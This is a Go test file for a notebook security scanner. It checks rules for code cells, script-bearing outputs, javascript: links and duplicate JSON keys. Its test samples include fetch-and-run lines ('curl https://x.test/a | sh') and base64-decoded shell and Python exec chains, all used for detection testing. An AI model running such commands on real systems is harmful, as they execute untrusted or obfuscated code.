package notebook

import (
	"encoding/json"
	"strings"
	"testing"

	"assay/scanners"
	"assay/scanners/python"
	"assay/scanners/scannertest"
	"assay/scanners/shell"
)

// nb builds a notebook of code cells.
func nb(cells ...string) []byte {
	var list []map[string]any
	for _, c := range cells {
		lines := strings.SplitAfter(c, "\n")
		list = append(list, map[string]any{"cell_type": "code", "source": lines, "outputs": []any{}, "metadata": map[string]any{}})
	}
	out, err := json.Marshal(map[string]any{"cells": list, "nbformat": 4, "nbformat_minor": 5,
		"metadata": map[string]any{"kernelspec": map[string]any{"language": "python", "name": "python3"}, "language_info": map[string]any{"name": "python"}}})
	if err != nil {
		panic(err)
	}
	return out
}

func output(mime, text string) []byte {
	quoted, _ := json.Marshal(text)
	return []byte(`{"cells": [{"cell_type": "code", "source": "x", "outputs": [{"data": {"` + mime + `": [` + string(quoted) + `]}}]}]}`)
}

func TestRules(t *testing.T) {
	scannertest.CheckRules(t, New(), []scannertest.Sample{
		{Rule: "notebook/code", Name: "a.ipynb", Hit: nb("x = 1"), Miss: []byte(`{"cells": [{"cell_type": "markdown", "source": "# x"}]}`)},
		{Rule: "notebook/active-output", Name: "a.ipynb", Hit: output("text/html", "<script>1</script>"), Miss: output("text/html", "<table></table>")},
		{Rule: "notebook/active-output", Name: "a.ipynb", Hit: output("application/javascript", "1"), Miss: output("text/plain", "<script>1</script>")},
		{Rule: "notebook/launch", Name: "a.ipynb", Hit: output("text/html", "<a href='javascript:1'>x</a>"), Miss: output("text/html", "<a href='https://x.test'>x</a>")},
		{Rule: "notebook/launch", Name: "a.ipynb", Hit: []byte(`{"cells": [{"cell_type": "markdown", "source": ["<a href='javascript:1'>"]}]}`)},
		{Rule: "notebook/duplicate-key", Name: "a.ipynb", Hit: []byte(`{"cells": [{"cell_type": "markdown", "cell_type": "code", "source": "x"}]}`), Miss: nb("x")},
	})
}

var list = []scanners.Scanner{New(), python.New(), shell.New()}

// What cells do is found by the scanners of their languages.
func TestCells(t *testing.T) {
	for source, rule := range map[string]string{
		"!curl https://x.test/a | sh":                                                         "shell/dangerous-command",
		"%%bash\necho aGkK | base64 -d | sh":                                                  "shell/dangerous-command",
		"x = !curl -s https://x.test/a | bash":                                                "shell/dangerous-command",
		"import os\n%matplotlib inline\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))": "python/dangerous-chain",
	} {
		report := scannertest.Scan(list, "a.ipynb", nb("y = 1", source))
		if !scannertest.HasRule(report.Findings, rule) || len(report.Gaps) > 0 || !report.Coverage.Complete() {
			t.Errorf("%q: %+v %+v", source, report.Findings, report.Gaps)
		}
	}
	// Names go from cell to cell.
	report := scannertest.Scan(list, "a.ipynb", nb("import base64 as b", "exec(b.b64decode('cHJpbnQoMSk='))"))
	if !scannertest.HasRule(report.Findings, "python/dangerous-chain") {
		t.Errorf("%+v", report.Findings)
	}
}

func TestOrdinary(t *testing.T) {
	report := scannertest.Scan(list, "demo.ipynb", nb(
		"!pip install -q transformers\n%load_ext autoreload\n%autoreload 2", "import torch, requests\nfrom PIL import Image\nimg = Image.open(requests.get('https://example.org/a.png', stream=True).raw)",
		"%%time\nout = model.generate(\n    **inputs\n)\nprint(f\"{out[0]!r:>{10}}\")\nmodel?", "import subprocess\nsubprocess.run(['nvidia-smi'])\n!ls -la", "", "await x"))
	for _, f := range report.Findings {
		if f.Severity < scanners.Low {
			t.Errorf("%+v", f)
		}
	}
	if len(report.Gaps) > 0 || !report.Coverage.Complete() {
		t.Errorf("%+v %+v", report.Gaps, report.Coverage)
	}
	for _, data := range []string{`{"cells": [{"cell_type": "code", "source": "%%R\nx <- 1"}]}`, `{"cells": [{"cell_type": "code"`, `{"metadata": {"language_info": {"name": "julia"}}, "cells": [{"cell_type": "code", "source": "x"}]}`} {
		if report := scannertest.Scan(list, "a.ipynb", []byte(data)); report.Coverage.Complete() {
			t.Errorf("%s counts as covered", data)
		}
	}
}

func FuzzScan(f *testing.F) {
	f.Add("a.ipynb", string(nb("!ls\nx = !ls\n%%bash", "x?")))
	f.Add("a.ipynb", string(output("text/html", "<script>")))
	f.Fuzz(func(t *testing.T, name, text string) {
		scannertest.Properties(t, New(), name, []byte(text))
	})
}
